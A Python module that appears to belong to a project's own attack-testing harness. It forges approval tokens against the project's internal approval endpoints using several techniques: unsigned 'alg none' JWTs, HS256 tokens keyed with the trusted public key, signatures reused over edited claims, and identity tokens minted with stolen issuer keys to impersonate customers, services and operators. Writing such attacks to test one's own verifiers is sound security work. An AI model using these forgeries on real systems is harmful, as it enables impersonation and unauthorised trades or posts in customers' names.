"""Forged papers: approvals nobody gave, identities of others, at the real doors."""

import base64
import hashlib
import hmac
import json
from collections.abc import Generator, Mapping
from dataclasses import dataclass, replace
from datetime import timedelta
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any
from uuid import UUID

import httpx

from cli.attack.scene import Scene
from cli.attack.target import Target
from shared.approvals.action import Action
from shared.approvals.claims import TYP, ApprovalClaims
from shared.clock import utc_now
from shared.contracts.approvals import Approver, Preconditions, Scope
from shared.identity import ActorType, Identity, mint_identity
from shared.ids import CorrelationId, CustomerId, uuid7
from shared.keys import Issuer, Purpose, SigningKey, TrustStore, make_signing_key
from shared.tokens import sign

DELIVERY = "/internal/v1/approvals"
REVOCATION = "/internal/v1/approval-revocations"
LIFETIME = timedelta(minutes=15)
SEND_GRACE = timedelta(minutes=2)


@dataclass(frozen=True, slots=True)
class Pretence(httpx.Auth):
    """Signs each request with a fresh identity token, made with a key that was stolen."""

    key: SigningKey
    identity: Identity
    audience: Issuer

    def auth_flow(self, request: httpx.Request) -> Generator[httpx.Request, httpx.Response]:
        identity = replace(self.identity, correlation_id=CorrelationId(uuid7()))
        token = mint_identity(identity, key=self.key, audience=self.audience)
        request.headers["Authorization"] = f"Bearer {token}"
        yield request


def pretence(
    target: Target,
    *,
    customer_id: UUID | None,
    issuer: Issuer = Issuer.CP,
    actor_type: ActorType = ActorType.SERVICE,
    roles: tuple[str, ...] = (),
    audience: Issuer = Issuer.PLANT,
) -> Pretence:
    """Pretend to be a service, a customer or an operator, with the issuer's own identity key."""
    identity = Identity(
        issuer=issuer,
        actor_type=actor_type,
        actor_id=str(uuid7()),
        customer_id=CustomerId(customer_id) if customer_id else None,
        correlation_id=CorrelationId(uuid7()),
        roles=roles,
    )
    return Pretence(target.stolen_key(issuer, Purpose.IDENTITY), identity, audience)


async def at_gateway(scene: Scene, customer_id: UUID, **who: Any) -> httpx.AsyncClient:
    """Speak to the gateway as a portal does."""
    auth = pretence(scene.target, customer_id=customer_id, **who)
    return await scene.client(scene.target.gateway_url, auth=auth)


async def deliver(scene: Scene, statement: str, *, customer_id: UUID, **who: Any) -> httpx.Response:
    """Bring a statement to Plant's door as the customer portal would."""
    gateway = await at_gateway(scene, customer_id, **who)
    return await gateway.put(DELIVERY, json={"approval": statement})


def own_key(*, kid: str | None = None) -> SigningKey:
    """A key that the attacker made; under a trusted key's id when one is given."""
    with TemporaryDirectory() as folder:
        key = make_signing_key(Path(folder), issuer=Issuer.CP, purpose=Purpose.APPROVAL)
    return replace(key, kid=kid or key.kid)


def claims_for(
    draft: Mapping[str, Any], *, issued_ago: timedelta = timedelta(), is_bound: bool = True
) -> ApprovalClaims:
    """What a genuine approval of the draft, given that long ago, would say."""
    action = Action.model_validate(draft["draft"]["action"])
    plan, issued_at = draft["draft"]["plan"], utc_now() - issued_ago
    expires_at = issued_at + LIFETIME
    return ApprovalClaims(
        jti=uuid7(),
        iss="cp",
        sub=action.customer_id,
        action=action,
        action_hash=action.action_hash(),
        deliverable_id=UUID(draft["deliverable_id"]) if is_bound else None,
        approver=Approver(type="customer", id=action.customer_id, method="session"),
        scope=Scope.PER_TRADE_ACTION if action.is_order else Scope.PER_POST,
        iat=int(issued_at.timestamp()),
        exp=int(expires_at.timestamp()),
        execute_by=int((expires_at + SEND_GRACE).timestamp()),
        preconditions=_preconditions(plan) if plan else None,
    )


def _preconditions(plan: Mapping[str, Any]) -> Preconditions:
    return Preconditions(price_shown=plan["price_shown"], allowed_drift_bps=plan["allowed_drift_bps"])


def signed(claims: ApprovalClaims, key: SigningKey, *, typ: str = TYP, **changes: Any) -> str:
    return sign(claims.model_dump(mode="json") | changes, key=key, typ=typ)


def unsigned(claims: ApprovalClaims, *, kid: str) -> str:
    header = {"alg": "none", "typ": TYP, "kid": kid}
    return f"{_part(header)}.{_part(claims.model_dump(mode='json'))}."


def signed_with_public_key(claims: ApprovalClaims, *, kid: str, trust_file: Path) -> str:
    """HS256 with the trusted public key as the shared secret: believed where the header chooses the algorithm."""
    trusted = TrustStore(trust_file).find(kid, purpose=Purpose.APPROVAL)
    public = str(trusted.jwk.as_dict(private=False)["x"]) if trusted else ""
    header = {"alg": "HS256", "typ": TYP, "kid": kid}
    signing_input = f"{_part(header)}.{_part(claims.model_dump(mode='json'))}"
    secret = base64.urlsafe_b64decode(f"{public}=")
    return f"{signing_input}.{_text(hmac.digest(secret, signing_input.encode(), hashlib.sha256))}"


def edited(statement: str, **changes: Any) -> str:
    """The same signature over other claims."""
    header, payload, signature = statement.split(".")
    claims = json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))
    return f"{header}.{_part(claims | changes)}.{signature}"


def _part(value: Mapping[str, Any]) -> str:
    return _text(json.dumps(value, separators=(",", ":"), sort_keys=True).encode())


def _text(value: bytes) -> str:
    return base64.urlsafe_b64encode(value).rstrip(b"=").decode()
